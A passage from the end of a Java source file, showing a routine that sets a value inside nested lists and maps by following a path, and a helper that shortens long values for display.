            node = node instanceof List<?> list ? list.get(Integer.parseInt(parts[i])) : ((Map<String, Object>) node).get(parts[i]);
        }
        String last = parts[parts.length - 1];
        if (node instanceof List<?> list) {
            ((List<Object>) list).set(Integer.parseInt(last), value);
        } else {
            ((Map<String, Object>) node).put(last, value);
        }
    }

    static String abbreviate(Object value) {
        String s = String.valueOf(value);
        return s.length() > 60 ? s.substring(0, 60) + "...(" + s.length() + ")" : s;
    }
}
